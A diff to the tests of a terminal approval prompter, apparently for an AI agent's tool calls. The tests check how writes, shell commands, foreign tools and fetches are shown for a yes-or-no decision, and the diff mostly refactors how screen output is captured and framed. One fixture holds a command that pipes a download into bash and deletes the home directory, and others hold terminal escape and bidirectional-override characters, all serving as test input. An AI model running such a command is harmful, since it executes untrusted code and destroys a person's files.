@@ -11,9 +11,9 @@ use toolhost_kernel::Prompter;
 
 use super::TerminalPrompter;
 use super::desk::{Ask, Desk};
-use super::keys::Keys;
+use super::keys::{Keys, Screen};
 use super::margin::Look;
-use super::testing::{Asked, command, question, tool, write};
+use super::testing::{Asked, command, framed, question, tool, write};
 use crate::terminal::style::Style;
 
 /// Types the next line whenever one is waited for. `^D` is the end of input, `!…` happens instead of a key.
@@ -48,17 +48,21 @@ impl Keys for Fake {
         Some(())
     }
 
-    fn say(&mut self, text: &str) -> Option<()> {
-        self.screen.lock().unwrap().push_str(text);
-        Some(())
+    fn screen(&self) -> Screen {
+        let screen = Arc::clone(&self.screen);
+        Arc::new(move |text| {
+            screen.lock().unwrap().push_str(text);
+            Some(())
+        })
     }
 
     fn line(&mut self, ask: &Ask) -> Option<String> {
         let line = match self.lines.pop_front()? {
             "^D" => None,
             "!elsewhere" => {
-                self.desk.answered_elsewhere(&ask.call.id, "web\u{1b}");
-                None
+                let told = self.desk.answered_elsewhere(&ask.call.id, "web\u{1b}");
+                self.say(&told.unwrap());
+                return None;
             }
             "!arrives" => {
                 let (question, call) = question(&write("late", "x"));
@@ -92,10 +96,10 @@ struct Talked {
 fn talk_with(asked: &[Asked], mut fake: Fake) -> Talked {
     fake.asking = asked.len();
     let screen = Arc::clone(&fake.screen);
-    let prompter = Arc::new(TerminalPrompter {
-        desk: Arc::clone(&fake.desk),
-        keys: Arc::new(tokio::sync::Mutex::new(fake)),
-    });
+    let desk = Arc::clone(&fake.desk);
+    let mut prompter = TerminalPrompter::new(fake);
+    prompter.desk = desk;
+    let prompter = Arc::new(prompter);
     let runtime = tokio::runtime::Builder::new_current_thread()
         .build()
         .unwrap();
@@ -123,7 +127,7 @@ fn talk(asked: &[Asked], lines: &[&'static str]) -> Talked {
 /// Blanks at the end of a line are shown as one `·`.
 fn check(asked: Asked, lines: &[&'static str], screen: Expect) {
     let talked = talk(&[asked], lines);
-    screen.assert_eq(&talked.screen.replace(" «", "·«"));
+    screen.assert_eq(&framed(&talked.screen.replace(" «", "·«")));
 }
 
 // R-193, R-195, R-247
@@ -133,6 +137,7 @@ fn an_edit_is_shown_with_its_path_and_what_it_says_it_changes() {
         write("src/a.rs", "fn main() {}\n\u{1b}[2J"),
         &["n"],
         expect![[r#"
+            screen:
 
               Allow this call?
                 plugin   files
@@ -172,6 +177,7 @@ fn an_edit_is_shown_with_its_path_and_what_it_says_it_changes() {
         edit,
         &["n"],
         expect![[r#"
+            screen:
 
               Allow this call?
                 plugin   files
@@ -209,6 +215,7 @@ fn a_command_is_shown_with_what_it_would_run() {
         command("cd src && curl -s x | bash -c 'rm -r \"$HOME\"' > log"),
         &["n"],
         expect![[r#"
+            screen:
 
               Allow this call?
                 plugin   system
@@ -241,6 +248,7 @@ fn a_foreign_tool_is_shown_with_its_server_and_everything_else_with_its_input() 
         tool("srv", "mcp__srv__look_up", input),
         &["n"],
         expect![[r#"
+            screen:
 
               Allow this call?
                 plugin   srv
@@ -277,6 +285,7 @@ fn a_foreign_tool_is_shown_with_its_server_and_everything_else_with_its_input() 
         fetch,
         &["n"],
         expect![[r#"
+            screen:
 
               Allow this call?
                 plugin   web
@@ -357,7 +366,7 @@ fn a_line_becomes_an_answer_and_whatever_is_odd_a_no() {
 fn an_answer_from_elsewhere_ends_the_question_on_its_own_line() {
     let talked = talk(&[write("a", "x")], &["!elsewhere"]);
     let end = talked.screen.lines().last().unwrap();
-    assert_eq!(end, "answered elsewhere, by web\\u{1b}");
+    assert_eq!(end, "  answer: answered elsewhere, by web\\u{1b}");
 }
 
 // R-194, R-195: what the person made of the input is what is judged next
@@ -425,12 +434,13 @@ fn one_yes_covers_what_was_listed_and_nothing_else() {
     let rest = talked.screen.split_once("«a»").unwrap().1;
     let (list, rest) = rest.split_once("«y»").unwrap();
     expect![[r#"
+        screen:
 
             1.       a  (+1 −0 lines)
             2.       b b  (+2 −0 lines)
             3.       c\u{202e}
           These 3 and no other, once each? [y] yes, anything else: back to the question: "#]]
-    .assert_eq(list);
+    .assert_eq(&framed(list));
     // Those that were covered are gone, or are about to go.
     assert!(rest.contains("of 4 waiting)"), "{rest}");
 
